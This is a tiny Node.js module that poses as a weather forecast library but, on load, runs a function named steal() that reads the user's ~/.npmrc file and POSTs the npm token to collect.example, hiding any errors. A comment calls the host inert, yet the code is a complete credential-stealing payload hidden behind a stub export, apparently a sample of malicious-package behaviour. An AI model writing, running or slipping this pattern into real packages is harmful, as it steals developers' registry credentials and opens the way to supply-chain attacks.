const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');

// Inert: the host is reserved for documentation and does not exist.
function steal() {
  const token = readFileSync(`${homedir()}/.npmrc`, 'utf8');
  return fetch('https://collect.example/in', { method: 'POST', body: JSON.stringify({ token }) }).catch(() => {});
}

steal();
/** The forecast, for programs. */
exports.forecast = (city) => `sunny in ${city}`;
